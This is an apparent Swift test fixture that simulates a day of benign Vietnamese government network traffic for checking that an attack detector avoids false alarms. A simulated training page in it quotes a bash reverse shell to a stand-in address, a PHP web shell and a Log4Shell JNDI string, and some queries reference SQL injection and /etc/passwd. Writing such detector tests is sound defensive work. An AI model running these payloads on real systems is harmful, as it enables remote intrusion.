import TestSupport

extension Scenario {
    /// A day full of work that looks like an attack to those who are in a hurry.
    static var noisyDay: [Scenario] { [busyDay] }

    private static var busyDay: Scenario {
        var day = DrillDay(port: 58001)
        let offices = [
            "192.0.2.2", "192.0.2.18", "192.0.2.34", "192.0.2.50", "192.0.2.66", "192.0.2.105",
            "203.0.113.150",
        ]
        day.everyday(until: 1750, pace: 24, seed: 58001, offices)
        healthChecks(in: &day)
        backup(in: &day)
        updates(in: &day)
        training(in: &day)
        wrongPasswords(in: &day)
        letters(in: &day)
        return Scenario("drills/noisy-day", day)
    }

    /// The monitoring system asks every service whether it is there, quickly and one after the other.
    private static func healthChecks(in day: inout DrillDay) {
        let answers = ["200 OK", "200 OK", "404 Not Found"]
        for (index, server) in ["198.51.100.10", "198.51.100.11", "198.51.100.18", "198.51.100.30"]
            .enumerated()
        {
            for (turn, target) in ["/", "/suc-khoe", "/khong-co-trang-nay"].enumerated() {
                let lines = [
                    "HEAD \(target) HTTP/1.1", "Host: \(server)",
                    "User-Agent: giam-sat/2.1 (kiem tra dinh ky)",
                    "", "",
                ]
                day.talk(at: 61 + index + turn * 600, "198.51.100.70", server, 80) { talk in
                    talk.client(sends: lines.joined(separator: "\r\n"))
                    talk.server(
                        sends: "HTTP/1.1 \(answers[turn])\r\nServer: drill\r\nContent-Length: 0\r\n\r\n")
                }
            }
        }
    }

    /// A backup of everything that cannot be packed any further.
    private static func backup(in day: inout DrillDay) {
        var generator = SeededGenerator(seed: 58090)
        for (index, second) in [180, 900].enumerated() {
            let bytes = Text.noise(length: 16_000, from: &generator)
            day.share(at: second, "198.51.100.12", "198.51.100.40", "sao-luu") { share in
                share.open("csdl-\(index).gz.enc", size: nil)
                for start in stride(from: 0, to: bytes.count, by: 4000) {
                    share.write(Array(bytes[start..<start + 4000]), at: start)
                }
            }
        }
    }

    /// A program, a script and an archive from the server for updates.
    private static func updates(in day: inout DrillDay) {
        var zip = ZipBytes()
        zip.add("huong-dan.pdf", Array("%PDF-1.4 huong dan, khong co noi dung\n".utf8))
        zip.add("cai-dat.exe", Payload.program([".text", ".rdata"], strings: ["drill"]))
        let script = "powershell -ExecutionPolicy RemoteSigned -File cap-nhat.ps1\r\n"
        let files: [(String, [UInt8])] = [
            ("ban-va-11.exe", Payload.program([".text", ".rsrc"], strings: ["ban va dien tap"])),
            ("cap-nhat.bat", Array(script.utf8)), ("bo-cai.zip", zip.bytes),
        ]
        for (index, file) in files.enumerated() {
            day.web(
                at: 330 + index * 20, "192.0.2.106", "198.51.100.35",
                asks: Text.request("GET", "/ban-va/\(file.0)", host: "capnhat.example"),
                gets: Text.response(file.1, type: "application/octet-stream"))
        }
    }

    /// Officers learn about attacks: searches, and a page that shows what they look like.
    private static func training(in day: inout DrillDay) {
        let page = [
            "<h1>Nhận biết tấn công</h1>",
            "<pre>$ bash -i &gt;&amp; /dev/tcp/192.0.2.1/4444 0&gt;&amp;1</pre>",
            "<p>Mã độc: &lt;?php system($_GET['cmd']); ?&gt; rồi gọi /anh.php?cmd=whoami</p>",
            "<p>Cổng thông tin một tỉnh bị hack bởi nhóm lạ. Dữ liệu đã bị mã hóa thì làm gì?</p>",
            "<p>Nhật ký: <code>$" + "{jndi:ldap://drill.invalid/a}</code></p>",
            "<p>Dấu TUYỆT MẬT, TỐI MẬT, MẬT do người có thẩm quyền quyết định.</p>",
        ]
        let targets = [
            "/tim-kiem?q=union+select+la+gi", "/tim-kiem?q=etc%2Fpasswd", "/bai/nhan-biet-tan-cong",
            "/tim-kiem?q=mysql+sleep(5)",
        ]
        for (index, target) in targets.enumerated() {
            day.web(
                at: 480 + index * 45, "192.0.2.51", "203.0.113.12",
                asks: Text.request("GET", target, host: "hoctap.example"),
                gets: Text.response(page.joined(separator: "\n")))
        }
    }

    /// An officer has forgotten a password and tries eight of them.
    private static func wrongPasswords(in day: inout DrillDay) {
        for attempt in 0..<8 {
            day.web(
                at: 720 + attempt * 6, "192.0.2.68", "198.51.100.11", 8080,
                asks: Text.request(
                    "POST", "/dang-nhap", host: "motcua.example", body: "ten=canbo&ma=thu\(attempt)"),
                gets: Text.response("<p>Sai mật khẩu</p>"))
        }
    }

    /// Letters about incidents, and one with an archive of documents.
    private static func letters(in day: inout DrillDay) {
        var zip = ZipBytes()
        zip.add("bao-cao-quy.pdf", Array("%PDF-1.4 bao cao, khong co noi dung\n".utf8), isEncrypted: true)
        let report = [
            "From: canbo@tinh.example", "To: quantri@tinh.example", "Subject: Báo cáo trực ca", "",
            "Đã thử tệp EICAR-STANDARD trên máy trạm, phần mềm diệt vi-rút báo đúng.",
            "Lệnh id trên máy chủ trả về uid=33(www-data), gid=33(www-data) như cũ.",
            "Có dòng: bash: no job control in this shell. Không sao.", "",
        ]
        day.talk(at: 1020, "192.0.2.50", "198.51.100.25", 25) { $0.submit(report.joined(separator: "\r\n")) }
        day.talk(at: 1080, "203.0.113.26", "198.51.100.25", 25) {
            $0.submit(ObjectRoad.letter("bao-cao-quy.zip", "application/zip", zip.bytes))
        }
    }
}
